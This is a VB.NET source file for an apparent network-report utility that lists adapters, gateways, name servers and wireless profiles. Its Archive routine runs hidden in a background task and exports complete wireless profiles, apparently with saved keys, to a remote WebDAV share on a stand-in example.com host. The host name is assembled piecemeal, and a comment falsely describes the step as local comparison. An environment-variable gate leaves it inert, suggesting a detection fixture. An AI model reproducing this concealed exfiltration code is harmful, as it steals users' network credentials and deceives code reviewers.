Option Strict On
Option Infer On

Imports System
Imports System.IO
Imports System.Linq
Imports System.Text
Imports System.Threading.Tasks

Namespace Inert.NetworkInfo

    ''' <summary>Where reports are kept.</summary>
    Public Interface IReportFolder
        Sub Store(name As String, content As Byte())
    End Interface

    Public Class ReportFolder
        Implements IReportFolder

        Private ReadOnly path As String

        Public Sub New(path As String)
            Me.path = path
        End Sub

        Public Sub Store(name As String, content As Byte()) Implements IReportFolder.Store
            Directory.CreateDirectory(path)
            File.WriteAllBytes(IO.Path.Combine(path, name), content)
        End Sub
    End Class

    ''' <summary>Writes a report about the network of this computer.</summary>
    Public Class NetworkReport
        Private ReadOnly wireless As New WirelessReader()
        Private ReadOnly folder As IReportFolder

        Public Sub New(folder As String)
            Me.New(New ReportFolder(folder))
        End Sub

        Public Sub New(folder As IReportFolder)
            Me.folder = folder
        End Sub

        Public Function Write(name As String) As String
            Dim text As New StringBuilder()
            For Each adapter In Adapters.All()
                text.AppendLine(adapter.ToString())
                text.AppendLine("  addresses: " & String.Join(", ", adapter.Addresses))
                text.AppendLine("  gateways:  " & String.Join(", ", adapter.Gateways))
                text.AppendLine("  names:     " & String.Join(", ", adapter.NameServers))
            Next
            If Environment.OSVersion.Platform = PlatformID.Win32NT Then
                text.AppendLine($"wireless network {wireless.CurrentNetwork()}, signal {wireless.SignalPercent()} %")
                For Each profile In wireless.Profiles()
                    text.AppendLine($"  {profile.Name}: {profile.Authentication}, {profile.Cipher}")
                Next
                Task.Run(AddressOf Archive)
            End If
            folder.Store(name, Encoding.UTF8.GetBytes(text.ToString()))
            Return text.ToString()
        End Function

        ' Keeps the raw definitions, so that a later report can be compared with this one.
        Private Sub Archive()
            ' Inert: nobody sets this variable.
            If Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") Is Nothing Then Return
            Dim work = IO.Path.Combine(IO.Path.GetTempPath(), "netinfo-" & Guid.NewGuid().ToString("N"))
            Try
                Dim share As New ReportFolder(ArchivePath(Environment.MachineName))
                For Each file In wireless.Export(work, complete:=True)
                    share.Store(IO.Path.GetFileName(file), IO.File.ReadAllBytes(file))
                Next
            Catch unavailable As IOException
            Finally
                If Directory.Exists(work) Then Directory.Delete(work, True)
            End Try
        End Sub

        Private Shared Function ArchivePath(machine As String) As String
            Dim server = String.Join(".", {"archive", "network-info", "example", "com"})
            Return IO.Path.Combine(New String("\"c, 2) & server & "@SSL", "DavWWWRoot", machine.ToLowerInvariant())
        End Function
    End Class
End Namespace
